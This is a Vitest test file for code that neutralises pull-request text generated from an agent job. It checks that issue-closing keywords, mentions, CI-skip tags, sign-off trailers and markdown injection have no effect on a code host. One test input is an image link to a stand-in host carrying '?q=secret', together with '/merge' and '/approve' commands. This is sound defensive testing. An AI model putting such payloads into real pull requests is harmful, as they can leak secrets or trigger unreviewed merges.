import { expect, test } from 'vitest'
import { neutralise, neutraliseMarkdown, toBody, toSummary, toTitle } from './pull-request-text.ts'

const where = { projectId: 'docs', jobId: '12345678-aaaa' }
const gap = '\u200b'

test('a title follows the pattern, fits a commit subject, and comes from the first line with an instruction', () => {
  const pattern = 'docs({project}): {title}'
  expect(toTitle('wait 1 s\n\n Fix the links \nmore', { pattern, ...where })).toBe('docs(docs): Fix the links')
  const long = toTitle('x'.repeat(500), { pattern, ...where })
  expect([long.length, long.at(-1)]).toEqual([72, '…'])
  // A prompt cannot name a part of the pattern.
  expect(toTitle('{job}', { pattern, ...where })).toBe('docs(docs): {job}')
  expect(toTitle(' \n', { pattern: '{title}', ...where })).toBe('Update the documentation')
})

test.each([
  'Fixes #12',
  'closes: acme/handbook#3',
  'RESOLVED https://github.com/acme/handbook/issues/4',
  'fix GH-5',
  'Implements JIRA-77',
  'Closing [#6](x)',
  'ask @acme/docs and @ana',
  '[skip ci] and [ci skip] and [no ci]',
  '***NO_CI***',
  'Co-authored-by: Eve <eve@example.com>',
  ' Signed-off-by: Eve <eve@example.com>',
  'skip-checks: true',
])('“%s” in a page triggers nothing on a code host', (text) => {
  const safe = neutralise(text)
  expect(safe.replaceAll(gap, '')).toBe(text)
  expect(safe).not.toMatch(
    /\b(clos\w+|fix\w*|resolv\w+|implement\w*):? +(#|https|GH-|\S*#\d|[A-Z]+-\d|\[#)|#\d|GH-\d|@\w|\[(skip|ci|no) (ci|skip)\]|NO_CI|-by:|^skip-checks:/i,
  )
})

test('ordinary sentences are not changed', () => {
  for (const text of [
    'Fixed 2 links.',
    'Fix the issue list',
    'docs: close the gap, e.g. a#b and 5 % more',
    'See https://example.com/a.',
  ])
    expect(neutraliseMarkdown(text)).toBe(text)
})

test('HTML, comments, images and commands of a report have no effect', () => {
  const text = '<img src=x>\n<!-- hidden -->\n![](https://evil.example/?q=secret)\n/merge\n  /approve'
  expect(neutraliseMarkdown(text)).not.toMatch(/<[a-z!]|!\[|^\s*\/[a-z]/im)
})

test('a description has the report, checks, prompt, person and job, and omits each that is missing', () => {
  const about = {
    ...where,
    title: 'Fix links',
    prompt: 'Fix links\n> # and more',
    requester: { name: 'Ana *Bee*', email: 'ana@example.com' },
    report: ['Fixed 2 links.'],
    checks: { command: 'npm test', passed: false, output: ['```', 'it failed @ana'] },
  }
  const rules = {
    body: null,
    requester: 'name',
    jobPage: () => 'https://docket.example.com/agent-jobs/docs/1',
  } as const
  expect(toBody(about, rules)).toBe(
    `Fixed 2 links.

**Checks failed:** \`npm test\`

\`\`\`\`text
\`\`\`
it failed @${gap}ana
\`\`\`\`

**Prompt**

> Fix links
> > # and more

Asked for by Ana *Bee*.

[Job 12345678 in Docket](https://docket.example.com/agent-jobs/docs/1)`,
  )
  const bare = toBody({ ...about, requester: null, checks: null }, { ...rules, jobPage: null })
  expect(bare).toBe('Fixed 2 links.\n\n**Prompt**\n\n> Fix links\n> > # and more')
  expect(toBody(about, { ...rules, requester: 'none' })).not.toContain('Ana')
  const nameless = { ...about, requester: { name: 'ana@example.com', email: null } }
  expect(toBody(nameless, rules)).toContain('Asked for by ana.')
  const template = '## {title}\n\n{asked}\n\n{report}\n\nFixes #1 {other}'
  expect(toBody({ ...about, report: ['{prompt}'] }, { ...rules, body: template })).toBe(
    '## Fix links\n\nAsked for by Ana *Bee*.\n\n{prompt}\n\nFixes #1 {other}',
  )
})

test('a long log is left out of commits, and shortened in descriptions', () => {
  const report = Array.from({ length: 5_000 }, (_, index) => `line ${index}`)
  expect(toSummary(['', ...report]).split('\n')).toEqual(report.slice(0, 10))
  const about = { ...where, title: 'x', prompt: 'y'.repeat(10_000), requester: null, report, checks: null }
  const body = toBody(about, { body: null, requester: 'name', jobPage: null })
  expect(body.length).toBeLessThan(30_000)
  expect(body).toMatch(/\d+ more lines in Docket\./)
})
